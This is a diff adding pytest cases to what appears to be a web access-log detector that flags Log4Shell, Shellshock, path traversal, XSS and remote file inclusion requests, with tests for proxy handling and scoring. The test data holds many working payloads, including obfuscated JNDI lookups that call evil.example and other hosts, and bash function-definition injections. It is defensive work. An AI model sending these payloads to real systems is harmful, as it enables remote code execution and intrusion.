@@ -62,6 +62,12 @@ ATTACKS = [
     ("path_traversal", "/download?file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini"),
     ("path_traversal", "/static/..%5c..%5cboot.ini"),
     ("path_traversal", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"),
+    ("path_traversal", "/%252E%252E%252Ffoo"),
+    ("path_traversal", "/static/%2e%2e/app.py"),
+    ("xss", "/s?q=%3Cframeset%20onload=x%3E"),
+    ("log4shell", "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
+    ("log4shell", "/$%7Bjndi:rmi://evil.example/a%7D"),
+    ("shellshock", "/cgi-bin/a.sh?()%20%7B%20:;%20%7D;%20echo"),
     ("remote_file_inclusion", "/index.php?page=http://198.51.100.9/shell.txt?"),
     ("remote_file_inclusion", "/index.php?page=php://filter/convert.base64-encode/resource=index.php"),
     ("remote_file_inclusion", "/index.php?mosConfig_absolute_path=http://evil.example/r57.txt%00"),
@@ -111,6 +117,14 @@ BENIGN = [
     "/projects/xdotool/+++++Result:+chosen+nickname+%22someone%22;sent;",
     "/.well-known/acme-challenge/abc",
     "/~alice/",
+    "/docs/java/jndi-lookup-tutorial.html",
+    "/search?q=jndi+ldap",
+    "/mail?template=Hello+%24%7Buser.name%7D",
+    "/config?name=${jndi_datasource}",
+    "/search?q=function()+%7B+return+1%3B+%7D",
+    "/search?q=const+f+%3D+()+%3D%3E+%7B+go()%3B+%7D",
+    "/img/a..b.png",
+    "/files/v1.2..1.3.diff",
 ]
 
 
@@ -146,6 +160,86 @@ def test_decoding_covers_once_twice_plus_and_entities(wa: ModuleType) -> None:
 )
 def test_scanner_agents(wa: ModuleType, agent: str | None, tool: str | None) -> None:
     assert wa.scanner_name(agent) == tool
+
+
+JNDI_LOOKUPS = [
+    "${jndi:ldap://198.51.100.9:1389/a}",
+    "${jndi:rmi://x/a}",
+    "${jndi:dns://x/a}",
+    "${jndi:ldaps://x/a}",
+    "${jndi:iiop://x/a}",
+    "${jndi:corba://x/a}",
+    "${jndi:nds://x/a}",
+    "${jndi:http://x/a}",
+    "${JnDi:ldap://x/a}",
+    "${${lower:j}ndi:ldap://x/a}",
+    "${${upper:j}${lower:N}di:ldap://x/a}",
+    "${${lower:${lower:j}}ndi:ldap://x/a}",
+    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}",
+    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
+    "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x/a}",
+    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
+    "${jndi:ldap://${env:USER}.${hostName}.x.example/a}",
+    "${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}",
+    "%24%7Bjndi:ldap://x/a%7D",
+    "%2524%257Bjndi%253Aldap%253A%252F%252Fx%252Fa%257D",
+    "${jndi:ldap://x.example/a",  # cut off by the logger
+]
+
+
+@pytest.mark.parametrize("text", JNDI_LOOKUPS)
+def test_jndi_lookups_are_log4shell(wa: ModuleType, text: str) -> None:
+    assert wa.header_signals(wa.decoded_forms(text)) == ["log4shell"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "jndi lookup",
+        "/wiki/JNDI:Naming",
+        "${user.name}",
+        "${env:HOME}/bin",
+        "${jndi_datasource}",
+        "${lower:jndi}",  # resolves to the word, not to a lookup
+        "${${lower:a}${lower:b}}",
+        "${" * 50 + "x" + "}" * 50,
+    ],
+)
+def test_templates_and_the_word_jndi_are_no_log4shell(wa: ModuleType, text: str) -> None:
+    assert not wa.jndi_lookup(wa.decoded_forms(text))
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "() { :; }; /bin/bash -c id",
+        "() { :;};echo",
+        "(){:;};/usr/bin/id",
+        "() { _; } >_[$($())] { echo hi; }",
+        "() { ignored; }; echo",
+        "() { (a)=>\\' bash -c 'echo date'",
+        "%28%29%20%7B%20%3A%3B%20%7D%3B%20echo",
+    ],
+)
+def test_bash_function_definitions_are_shellshock(wa: ModuleType, text: str) -> None:
+    assert wa.header_signals(wa.decoded_forms(text)) == ["shellshock"]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
+        "SomeApp/1.0 () {build 42}",
+        "function () { return 1; }",
+        "function() { return 1; }",
+        "$(function() { init(); })",
+        "foo() { bar; }",
+        "const f = () => { go(); }",
+        "()",
+    ],
+)
+def test_parentheses_and_javascript_are_no_shellshock(wa: ModuleType, text: str) -> None:
+    assert wa.header_signals(wa.decoded_forms(text)) == []
 
 
 # ----------------------------------------------------------------------------- parsing
@@ -198,6 +292,112 @@ def test_a_request_line_with_spaces_is_read_from_rawrequest(wa: ModuleType, pars
     assert request["signals"] == ["sql_injection"]
 
 
+def test_exploits_in_headers_are_found_and_sampled(wa: ModuleType, parser: EventParser) -> None:
+    stamp = '203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET / HTTP/1.1" 200 5'
+    agent = wa.classify(parser.parse(stamp + ' "-" "${${lower:j}ndi:ldap://x/a}"'))
+    assert agent["signals"] == ["log4shell"]
+    assert agent["sample"] == "log4shell User-Agent: ${${lower:j}ndi:ldap://x/a}"
+    referrer = wa.classify(parser.parse(stamp + ' "() { :; }; id" "Mozilla/5.0"'))
+    assert referrer["signals"] == ["shellshock"]
+    assert referrer["sample"] == "shellshock Referer: () { :; }; id"
+    forwarded = wa.classify(parser.parse(stamp + ' "-" "Mozilla/5.0" "${jndi:dns://x/a}"'))
+    assert forwarded["signals"] == ["log4shell"]
+    assert forwarded["sample"].startswith("log4shell X-Forwarded-For: ")
+
+
+def test_a_target_signal_is_sampled_before_a_header_one(wa: ModuleType, parser: EventParser) -> None:
+    line = '203.0.113.7 - - [03/Mar/2025:10:00:09 +0100] "GET /.env HTTP/1.1" 404 5 "-" "${jndi:ldap://x/a}"'
+    request = wa.classify(parser.parse(line))
+    assert request["signals"] == ["sensitive_file", "log4shell"]
+    assert request["sample"] == "sensitive_file /.env"
+
+
+def test_the_quoted_field_after_the_agent_is_kept(parser: EventParser) -> None:
+    event = parser.parse(LINES["nginx_xff"])
+    assert event["forwarded_for"] == '"10.0.0.1"'
+    assert parser.parse(LINES["combined"])["forwarded_for"] is None
+
+
+# ----------------------------------------------------------------------------- behind proxies
+
+TRUSTED = ("10.0.0.0/24", "2001:db8:ffff::/48")
+
+
+@pytest.fixture(scope="module")
+def proxies(wa: ModuleType):
+    return wa.trusted_proxies({"client_from_forwarded": "true", "trusted_proxies": ", ".join(TRUSTED)})
+
+
+@pytest.mark.parametrize(
+    ("peer", "forwarded_for", "client"),
+    [
+        ("10.0.0.2", "203.0.113.7", "203.0.113.7"),
+        ("10.0.0.2", "198.51.100.1, 203.0.113.7", "203.0.113.7"),  # the left entry is the client's word
+        ("10.0.0.2", "203.0.113.7, 10.0.0.9", "203.0.113.7"),  # through two trusted proxies
+        ("10.0.0.2", "203.0.113.7:5123", "203.0.113.7"),
+        ("10.0.0.2", "[2001:db8::7]:443", "2001:db8::7"),
+        ("2001:db8:ffff::2", "2001:DB8:0::7", "2001:db8::7"),
+        ("10.0.0.2", "10.0.0.8, 10.0.0.9", "10.0.0.8"),  # all trusted: the left-most
+        ("10.0.0.2", "unknown", "10.0.0.2"),
+        ("10.0.0.2", "203.0.113.7, unknown", "10.0.0.2"),  # no address: stop at the proxy
+        ("10.0.0.2", "www.example.com", "10.0.0.2"),  # no X-Forwarded-For at all
+        ("10.0.0.2", None, "10.0.0.2"),
+        ("203.0.113.5", "198.51.100.1", "203.0.113.5"),  # an untrusted peer's header is ignored
+        ("proxy.example.com", "198.51.100.1", "proxy.example.com"),
+    ],
+)
+def test_client_behind_trusted_proxies(
+    wa: ModuleType, proxies, peer: str, forwarded_for: str | None, client: str
+) -> None:
+    assert wa.client_address(peer, forwarded_for, proxies) == client
+
+
+def test_forwarded_for_is_ignored_unless_turned_on(wa: ModuleType, parser: EventParser) -> None:
+    assert wa.trusted_proxies({}) == ()
+    assert wa.trusted_proxies({"client_from_forwarded": "false", "trusted_proxies": "10.0.0.0/8"}) == ()
+    request = wa.classify(parser.parse(LINES["nginx_xff"].replace("203.0.113.7", "10.0.0.2", 1)))
+    assert (request["client"], request["proxy"]) == ("10.0.0.2", None)
+
+
+def test_classify_keys_by_the_forwarded_client(wa: ModuleType, parser: EventParser, proxies) -> None:
+    line = LINES["nginx_xff"].replace("203.0.113.7", "10.0.0.2", 1).replace('"10.0.0.1"', '"203.0.113.9"')
+    request = wa.classify(parser.parse(line), proxies)
+    assert (request["client"], request["proxy"]) == ("203.0.113.9", "10.0.0.2")
+
+
+def test_trusted_proxies_accepts_lists_and_names_bad_values(wa: ModuleType) -> None:
+    conf = {"client_from_forwarded": "yes", "trusted_proxies": ["10.0.0.1", "fd00::/8"]}
+    networks = wa.trusted_proxies(conf)
+    assert [str(network) for network in networks] == ["10.0.0.1/32", "fd00::/8"]
+    with pytest.raises(ValueError, match="'trusted_proxies': needed when client_from_forwarded = true"):
+        wa.trusted_proxies({"client_from_forwarded": "true"})
+    with pytest.raises(ValueError, match=r"'trusted_proxies': not an address or CIDR: 'proxy\.lan'"):
+        wa.trusted_proxies({"client_from_forwarded": "true", "trusted_proxies": "10.0.0.0/8 proxy.lan"})
+    with pytest.raises(ValueError, match="'client_from_forwarded': true or false"):
+        wa.trusted_proxies({"client_from_forwarded": "sometimes"})
+
+
+def test_json_access_log_fields(wa: ModuleType, proxies) -> None:
+    event = {
+        "remote_addr": "10.0.0.2",
+        "request": "GET /?q=%24%7Bjndi:ldap://x/a%7D HTTP/1.1",
+        "status": 404,
+        "http_user_agent": "sqlmap/1.8",
+        "http_referer": "",
+        "http_x_forwarded_for": "203.0.113.9",
+        "server_name": "shop.example.com",
+    }
+    request = wa.classify(event, proxies)
+    assert request["client"] == "203.0.113.9"
+    assert request["target"] == "/?q=%24%7Bjndi:ldap://x/a%7D"
+    assert request["status"] == "404"
+    assert request["not_found_path"] == "/"
+    assert request["vhost"] == "shop.example.com"
+    assert request["signals"] == ["log4shell", "scanner_agent"]
+    both = {"remote_addr": "10.0.0.2", "request_uri": "/a?b=1", "request": "GET /x HTTP/1.1"}
+    assert wa.access_fields(both)["target"] == "/a?b=1"
+
+
 # ----------------------------------------------------------------------------- scoring
 
 
@@ -205,7 +405,7 @@ def window(wa: ModuleType, **values: int) -> WindowResult:
     start = datetime(2025, 3, 3, 9, 0, tzinfo=timezone.utc)
     measured = {category: 0 for category in wa.CATEGORIES if category != wa.NOT_FOUND_FLOOD}
     measured.update(not_found=0, not_found_paths=0, suspicious_requests=1, first_seen=start, last_seen=start)
-    measured.update(samples=[], not_found_samples=[], scanners=[], vhosts=[])
+    measured.update(samples=[], not_found_samples=[], scanners=[], vhosts=[], proxies=[])
     measured.update(values)
     return WindowResult("203.0.113.7", start, start.replace(minute=10), measured)
 
@@ -215,6 +415,17 @@ def test_one_category_scores_its_base(wa: ModuleType) -> None:
     assert (key, score) == ("203.0.113.7", 70.0)
     assert (metadata["signals"], metadata["level"]) == ("sql_injection", "high")
     assert metadata["mitre"] == ["T1190"]
+
+
+def test_exploits_score_at_least_like_sql_injection(wa: ModuleType) -> None:
+    tuning = wa.settings({})
+    for category, mitre in (("log4shell", ["T1190"]), ("shellshock", ["T1059.004", "T1190"])):
+        _, score, metadata = wa.finding(window(wa, **{category: 1}), tuning)
+        assert score == 75.0 >= wa.finding(window(wa, sql_injection=1), tuning)[1]
+        assert (metadata["signals"], metadata["mitre"]) == (category, mitre)
+    _, score, metadata = wa.finding(window(wa, log4shell=1, shellshock=1, scanner_agent=1), tuning)
+    assert score == 85.0
+    assert (metadata["signals"], metadata["level"]) == ("log4shell shellshock scanner_agent", "critical")
 
 
 def test_categories_combine(wa: ModuleType) -> None:
